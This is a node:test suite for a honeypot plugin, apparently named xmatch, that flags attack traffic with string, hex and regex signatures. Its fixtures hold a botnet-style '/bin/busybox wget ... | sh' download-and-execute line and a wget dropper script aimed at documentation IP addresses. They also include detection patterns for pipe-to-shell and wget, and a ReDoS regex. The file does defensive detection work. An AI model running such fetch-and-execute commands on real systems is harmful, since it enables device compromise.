// Tests for xmatch, run by `honeytrap-plugin test` with node:test. Each config
// is loaded once in the daemon's own worker engine (loadPlugin) with the limits
// in plugin.json; the config goes through the manifest's configSchema exactly
// as plugins.config.xmatch does in the daemon.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { HarnessError, attackFixture, loadPlugin } from '@honeytrap/sdk';

const dir = fileURLToPath(new URL('..', import.meta.url));

/** Loads xmatch with `config`, runs `fn` with it, closes it. */
async function withPlugin(config, fn) {
  const p = await loadPlugin(dir, { config });
  try {
    return await fn(p);
  } finally {
    await p.close();
  }
}

const brief = (findings) => findings.map((f) => [f.value, f.offset, f.meta.match]);

test('string, hex and regex rules: one signature finding per match, rule name and byte offset', async () => {
  const rules = [
    { name: 'busybox-probe', type: 'string', pattern: '/bin/busybox ' },
    { name: 'elf', type: 'hex', pattern: '7F454C46 ?? 01' },
    { name: 'pipe-to-shell', type: 'regex', pattern: '\\|\\s*(?:ba)?sh\\b' },
    { name: 'utf8', type: 'string', pattern: 'passwörd' },
  ];
  const received = Buffer.concat([
    Buffer.from('/bin/busybox wget -qO- http://203.0.113.1/i | sh; /bin/busybox ECCHI\r\n'),
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x01, 0x01, 0x7f, 0x45, 0x4c, 0x46, 0x02, 0x02]),
    Buffer.from(' passwörd'),
  ]);
  await withPlugin({ rules }, async (p) => {
    const out = await p.run(attackFixture({ received, port: 23 }));
    const elfAt = received.indexOf(Buffer.from('7f454c460101', 'hex'));
    assert.deepEqual(brief(out.findings), [
      ['busybox-probe', 0, '/bin/busybox '],
      ['busybox-probe', received.indexOf('/bin/busybox ', 1), '/bin/busybox '],
      ['elf', elfAt, '7f454c460101'],
      ['pipe-to-shell', received.indexOf('| sh'), '| sh'],
      ['utf8', received.indexOf('passwörd'), 'passw\\xc3\\xb6rd'],
    ]);
    assert.deepEqual(out.findings[2], {
      type: 'signature',
      value: 'elf',
      offset: elfAt,
      meta: { rule: 'elf', ruleType: 'hex', length: 6, match: '7f454c460101', input: 'received' },
    });
  });
});

test('caseInsensitive, ports (numbers and ranges) and artifacts', async () => {
  const rules = [
    { name: 'wget-any-case', type: 'string', pattern: 'wget', caseInsensitive: true },
    { name: 'telnet-only', type: 'regex', pattern: 'enable\\r\\nsystem', ports: [23, '2323-2325'] },
  ];
  const received = 'enable\r\nsystem\r\nshell\r\nWGET x; wGeT y\r\n';
  await withPlugin({ rules }, async (p) => {
    const values = async (port) =>
      (await p.run(attackFixture({ received, port }))).findings.map((f) => f.value);
    assert.deepEqual(await values(23), ['wget-any-case', 'wget-any-case', 'telnet-only']);
    assert.deepEqual(await values(2324), ['wget-any-case', 'wget-any-case', 'telnet-only']);
    assert.deepEqual(await values(2326), ['wget-any-case', 'wget-any-case']);
    // an artifact is matched under the port of the attack that led to it
    const art = await p.runArtifact(
      { data: '#!/bin/sh\nwget http://203.0.113.9/a\n', contentType: 'text/x-shellscript' },
      attackFixture({ received: 'x', port: 8080 }),
    );
    assert.deepEqual(
      art.findings.map((f) => [f.value, f.offset, f.meta.input]),
      [['wget-any-case', 10, 'artifact']],
    );
  });
});

test('matches per rule are bounded by maxMatchesPerRule, with a log line', async () => {
  const received = 'x'.repeat(5000);
  await withPlugin(
    { rules: [{ name: 'x', type: 'string', pattern: 'x' }], maxMatchesPerRule: 25 },
    async (p) => {
      const out = await p.run(attackFixture({ received }));
      assert.equal(out.findings.length, 25);
      assert.deepEqual(
        out.findings.map((f) => f.offset),
        Array.from({ length: 25 }, (_, i) => i),
      );
      assert.ok(p.logs.some((l) => l.includes('rule x: more than 25 matches')));
    },
  );
  // the default is 10; empty matches (x*) are never findings and do not loop
  await withPlugin({ rules: [{ name: 'star', type: 'regex', pattern: 'y*' }] }, async (p) => {
    const out = await p.run(attackFixture({ received: 'ayyb'.repeat(100) }));
    assert.equal(out.findings.length, 10);
    assert.deepEqual(out.findings[0].meta.match, 'yy');
  });
});

test('the configSchema refuses bad rules before the plugin runs', async () => {
  const refused = async (config, words) => {
    const err = await loadPlugin(dir, { config }).then(
      (p) => (p.close(), undefined),
      (e) => e,
    );
    assert.ok(err instanceof HarnessError, String(err));
    assert.ok(
      err.details.some((d) => d.includes(words)),
      `${words} in ${JSON.stringify(err.details)}`,
    );
  };
  await refused(
    { rules: [{ name: 'h', type: 'hex', pattern: '4d 5' }] },
    'plugins.config.xmatch/rules/0/pattern: "4d 5" is not a hex pattern',
  );
  await refused(
    { rules: [{ name: 'h', type: 'glob', pattern: '*' }] },
    'plugins.config.xmatch/rules/0/type: must be one of string, hex, regex',
  );
  await refused({ rules: [{ type: 'string', pattern: 'x' }] }, '/rules/0/name: is required');
  await refused(
    { rules: [{ name: 'p', type: 'string', pattern: 'x', ports: [70000] }] },
    '/rules/0/ports/0: 70000 is not a port number',
  );
  await refused({ rules: [], maxMatchesPerRule: 0 }, '/maxMatchesPerRule: must be >= 1');
  await refused({ rulez: [] }, '/rulez: unknown property');
});

test('a catastrophic regex is stopped by the task timeout, and the next task runs normally', async () => {
  const rules = [
    { name: 'redos', type: 'regex', pattern: '^(a+)+$' },
    { name: 'marker', type: 'string', pattern: 'ok' },
  ];
  await withPlugin({ rules }, async (p) => {
    const started = performance.now();
    await assert.rejects(p.run(attackFixture({ received: `${'a'.repeat(48)}!` })), (err) => {
      assert.equal(err.code, 'HT_PLUGIN_TIMEOUT');
      return true;
    });
    const ms = performance.now() - started;
    assert.ok(ms >= 2000 && ms < 6000, `ended after ${Math.round(ms)} ms (timeoutMs 2000)`);
    const out = await p.run(attackFixture({ received: 'ok' }));
    assert.deepEqual(
      out.findings.map((f) => f.value),
      ['marker'],
    );
  });
});

test('an invalid regex fails each task with the rule name', async () => {
  await withPlugin({ rules: [{ name: 'broken', type: 'regex', pattern: 'a(b' }] }, async (p) => {
    await assert.rejects(p.run(attackFixture({ received: 'ab' })), (err) => {
      assert.equal(err.code, 'HT_PLUGIN_THREW');
      assert.match(err.message, /rule "broken": invalid regular expression/);
      return true;
    });
  });
});
